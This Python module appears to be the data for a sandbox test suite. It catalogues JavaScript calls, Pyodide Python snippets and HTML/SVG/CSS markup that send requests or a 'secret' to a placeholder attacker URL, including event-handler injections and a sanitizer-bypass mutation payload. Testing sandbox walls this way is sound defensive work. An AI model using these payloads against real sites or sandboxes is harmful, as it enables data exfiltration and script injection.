"""All known ways out of a sandbox: for JavaScript, for Python, for markup.

`test_sandbox_walls.py` tries each of them inside the sandbox and without it.
"""

# Bodies of async functions; URL is the attacker's, over http. Each returns or throws when done.
WAYS_OUT = {
    "fetch": "await fetch(URL)",
    "blind fetch": "await fetch(URL, {mode: 'no-cors', method: 'POST', body: 'x'})",
    "kept-alive fetch": "await fetch(URL, {keepalive: true})",
    "fetch of a Request": "await fetch(new Request(URL, {headers: {a: 'b'}}))",
    "HEAD": "await fetch(URL, {method: 'HEAD'})",
    "streamed wasm": "await WebAssembly.compileStreaming(fetch(URL))",
    "running wasm": "await WebAssembly.instantiateStreaming(fetch(URL))",
    "fetch from eval": "await (0, eval)(`fetch('${URL}')`)",
    "fetch from Function": "await new Function('u', 'return fetch(u)')(URL)",
    "fetch from a constructor": "await (async () => 0).constructor(`await fetch('${URL}')`)()",
    "fetch from a generator": "await (function* () {}).constructor(`yield fetch('${URL}')`)()"
    ".next().value",
    "fetch of a prototype": "await Object.getPrototypeOf(Object.getPrototypeOf(self)).fetch"
    ".call(self, URL)",
    "fetch from a timer": """await new Promise((r, f) => {
      const code = `fetch('${URL}').finally(done)`; self.done = r; setTimeout(code, 0);
      setTimeout(() => f(new Error('nothing')), 2500) })""",
    "XMLHttpRequest": "const x = new XMLHttpRequest(); x.open('GET', URL, false); x.send()",
    "posting XMLHttpRequest": """const x = new XMLHttpRequest(); x.open('POST', URL);
      await new Promise((r, f) => { x.onload = r; x.onerror = f; x.send('x') })""",
    "WebSocket": """const s = new WebSocket(URL.replace('http', 'ws'));
      s.onopen = () => s.send('secret');
      await new Promise(r => { s.onerror = s.onclose = r })""",
    "WebSocket with a protocol": """const s = new WebSocket(URL.replace('http', 'ws'), ['p']);
      s.onopen = () => s.send('secret');
      await new Promise(r => { s.onerror = s.onclose = r })""",
    "EventSource": """const s = new EventSource(URL);
      await new Promise(r => { s.onerror = s.onopen = r }); s.close()""",
    "WebTransport": """const t = new WebTransport(URL.replace('http', 'https'));
      await Promise.allSettled([t.ready, t.closed])""",
    "importScripts": "importScripts(URL)",
    "import()": "await import(URL)",
    "import in a module": """await import(self.URL.createObjectURL(new Blob([`import '${URL}'`],
      {type: 'text/javascript'})))""",
    "export from a module": """await import(self.URL.createObjectURL(new Blob(
      [`export * from '${URL}'`], {type: 'text/javascript'})))""",
    "import of JSON": "await import(URL, {with: {type: 'json'}})",
    "FontFace": "await new FontFace('f', `url(${URL})`).load()",
    "Cache": "await (await caches.open('c')).add(URL)",
    "Cache of many": "await (await caches.open('c')).addAll([URL, URL + '2'])",
    "module worker": """const w = new Worker(self.URL.createObjectURL(new Blob(
      [`import '${URL}'; postMessage(0)`], {type: 'text/javascript'})), {type: 'module'});
      await new Promise((r, f) => { w.onmessage = r; w.onerror = f })""",
    "worker inside": """const w = new Worker(self.URL.createObjectURL(new Blob([
        `fetch('${URL}').catch(() => 0).then(() => {
          try { importScripts('${URL}') } catch {} postMessage(0) })`])));
      await new Promise((r, f) => { w.onmessage = r; w.onerror = f })""",
    "socket of a worker inside": """const w = new Worker(self.URL.createObjectURL(new Blob([
        `const s = new WebSocket('${URL.replace('http', 'ws')}');
        s.onopen = () => s.send('secret'); s.onerror = s.onclose = () => postMessage(0)`])));
      await new Promise((r, f) => { w.onmessage = r; w.onerror = f })""",
    "worker in a worker": """const inner = `fetch('${URL}').finally(() => postMessage(0))`;
      const w = new Worker(self.URL.createObjectURL(new Blob([
        `const w = new Worker(URL.createObjectURL(new Blob([${JSON.stringify(inner)}])));
        w.onmessage = w.onerror = () => postMessage(0)`])));
      await new Promise((r, f) => { w.onmessage = r; w.onerror = f })""",
    "shared worker": """const w = new SharedWorker(self.URL.createObjectURL(new Blob([
        `onconnect = e => fetch('${URL}').catch(() => 0).then(() => e.ports[0].postMessage(0))`])));
      await new Promise((r, f) => { w.port.onmessage = r; w.onerror = f })""",
    "sendBeacon": "navigator.sendBeacon(URL, 'x')",
}
# The attacker's record of a success, for ways where a connection alone is no success.
HEARD_AS = {
    "WebSocket": "message secret",
    "WebSocket with a protocol": "message secret",
    "socket of a worker inside": "message secret",
    "WebTransport": "udp",
}
# Workers do not have these APIs, so the control attempt without a sandbox runs in the page.
ONLY_IN_PAGES = {"sendBeacon", "shared worker"}

PYTHON_WAYS_OUT = {
    "js.fetch": "import js\nawait js.fetch(URL)",
    "from js": "from js import fetch\nawait fetch(URL, method='POST', body='x')",
    "pyfetch": "from pyodide.http import pyfetch\nawait pyfetch(URL)",
    "open_url": "from pyodide.http import open_url\nopen_url(URL)",
    "pyxhr": "from pyodide.http import pyxhr\npyxhr.get(URL)",
    "XMLHttpRequest": "import js\nx = js.XMLHttpRequest.new()\nx.open('GET', URL, False)\nx.send()",
    "WebSocket": "import js\nfrom asyncio import sleep\n"
    "s = js.WebSocket.new(URL.replace('http', 'ws'))\n"
    "s.onopen = lambda _: s.send('secret')\nawait sleep(0.3)",
    "EventSource": "import js\nfrom asyncio import sleep\njs.EventSource.new(URL)\n"
    "await sleep(0.3)",
    "Worker": "import js\nfrom asyncio import sleep\nblob = js.Blob.new([f'fetch(\"{URL}\")'])\n"
    "js.Worker.new(js.URL.createObjectURL(blob))\nawait sleep(0.5)",
    "FontFace": "import js\nawait js.FontFace.new('f', f'url({URL})').load()",
    "Cache": "import js\nawait (await js.caches.open('p')).add(URL)",
    "eval": "import js\nawait js.eval(f'import(\"{URL}\")')",
    "eval of fetch": "import js\nawait js.eval(f'fetch(\"{URL}\")')",
    "run_js": "from pyodide.code import run_js\nawait run_js(f'import(\"{URL}\")')",
    "Function": "import js\nawait js.Function.new(f'return import(\"{URL}\")')()",
    "constructor": "import js\nawait js.Object.constructor(f'return fetch(\"{URL}\")')()",
    "globalThis": "import js\nawait js.globalThis.fetch(URL)",
    "Reflect": "import js\nawait js.Reflect.get(js.globalThis, 'fetch')(URL)",
    "timer text": "import js\njs.setTimeout(f'fetch(\"{URL}\")', 0)\n"
    "from asyncio import sleep\nawait sleep(0.3)\n",
    "a package": "import pyodide_js\nawait pyodide_js.loadPackage(URL + 'x-1.0-py3-none-any.whl')\n"
    "import x",
    "the interpreter's own loader": "import pyodide_js\n"
    "await pyodide_js._module.API.loadBinaryFile(URL, 'x')",
}
# No interpreter in a browser can do these, so they have no control attempt without a sandbox.
PYTHON_NOT_EVEN_THEN = {
    "urllib": "from urllib.request import urlopen\nurlopen(URL, timeout=2)",
    "socket": "import socket\nsocket.create_connection(('127.0.0.1', PORT), timeout=2).send(b'x')",
    "asyncio": "import asyncio\nawait asyncio.open_connection('127.0.0.1', PORT)",
}

# Markup that a value shows; URL is the attacker's.
MARKUP_WAYS_OUT = {
    "picture": "<img src=URL>",
    "set of pictures": "<img srcset='URL 1x'>",
    "source of a picture": "<picture><source srcset=URL><img></picture>",
    "drawn picture": "<svg><image href=URL width=9 height=9 /></svg>",
    "filter": "<svg width=9 height=9><filter id=f><feImage href=URL /></filter>"
    "<rect width=9 height=9 filter='url(#f)'/></svg>",
    "style": "<p style='background: url(URL)'>x</p>",
    "rule": "<style>p { background: url(URL) }</style><p>x</p>",
    "@import": "<style>@import 'URL';</style>",
    "font": "<style>@font-face { font-family: f; src: url(URL) } p { font-family: f }</style><p>x",
    "content": "<style>p::before { content: url(URL) }</style><p>x",
    "list style": "<ul style='list-style-image: url(URL)'><li>x</ul>",
    "border": "<p style='border: 9px solid; border-image: url(URL) 9'>x</p>",
    "mask": "<p style='-webkit-mask: url(URL); background: red'>x</p>",
    "image-set": "<p style='background: image-set(\"URL\" 1x)'>x</p>",
    "background attribute": "<table background=URL><tr><td>x</table>",
    "input picture": "<input type=image src=URL>",
    "style sheet": "<link rel=stylesheet href=URL>",
    "preload": "<link rel=preload as=image href=URL>",
    "prefetch": "<link rel=prefetch href=URL>",
    "module preload": "<link rel=modulepreload href=URL>",
    "frame": "<iframe src=URL></iframe>",
    "frame with text": "<iframe srcdoc='<img src=URL>'></iframe>",
    "object": "<object data=URL></object>",
    "embed": "<embed src=URL>",
    "film": "<video src=URL preload=auto></video>",
    "poster": "<video poster=URL></video>",
    "sound": "<audio src=URL preload=auto></audio>",
    "script": "<script src=URL></script>",
    "code": "<script>fetch('URL')</script>",
    "handler": "<img src='data:,' onerror='fetch(\"URL\")'>",
    "drawn handler": "<svg onload='fetch(\"URL\")'></svg>",
    "refresh": "<meta http-equiv=refresh content='0;url=URL'>",
    "base": "<base href=URL><img src=relative.png>",
    "shadow": "<div><template shadowrootmode=open><img src=URL></template></div>",
    "link": "<a href=URL id=press>x</a>",
    "link to itself": "<a href=URL target=_self id=press>x</a>",
    "link to the top": "<a href=URL target=_top id=press>x</a>",
    "drawn link": "<svg width=99 height=99><a href=URL><rect id=press width=90 "
    "height=90 /></a></svg>",
    "drawn link of old": "<svg width=99 height=99><a xlink:href=URL><rect id=press width=90 "
    "height=90 /></a></svg>",
    "moved link": "<svg width=99 height=99><a><set attributeName=href to=URL />"
    "<rect id=press width=90 height=90 /></a></svg>",
    "formula": "<math><mtext href=URL id=press>xxxxx</mtext></math>",
    "preconnect": "<link rel=preconnect href=URL>",
    "preload of a set": "<link rel=preload as=image imagesrcset='URL 1x'>",
    "data and more": "<img srcset='data:image/png,x 9x, URL 1x'>",
    "named like a method": "<form><input name=getAttributeNames></form><img name=querySelectorAll>"
    "<img name=body><img srcset='URL 1x'>",
    "ping": "<a href='#' ping=URL id=press>x</a>",
    "form": "<form action=URL><button id=press>x</button></form>",
    "posting form": "<form action=URL method=post target=_blank><button id=press>x</button></form>",
}


# Only a second parse of a sanitizer's output makes a link of this markup.
MARKUP_NOT_EVEN_THEN = {
    "hidden from one reading": "<form><math><mtext></form><form><mglyph><style></math>"
    "<svg width=99 height=99><a href=URL><rect id=press width=90 height=90 /></a></svg>",
}
# Tried alone: these replace or cover the page, or wait until no other load is in progress.
MARKUP_ALONE = {"link to the top", "posting form", "prefetch"}
# Ways out that a browser does not have, so that they have no control attempt there.
NOT_THERE = {
    ("firefox", "ping"): "Firefox ships with browser.send_pings off",
    ("chromium", "formula"): "Chromium has no links in formulas",
    ("chromium", "preconnect"): "the flags with which Chromium is driven forbid it",
}
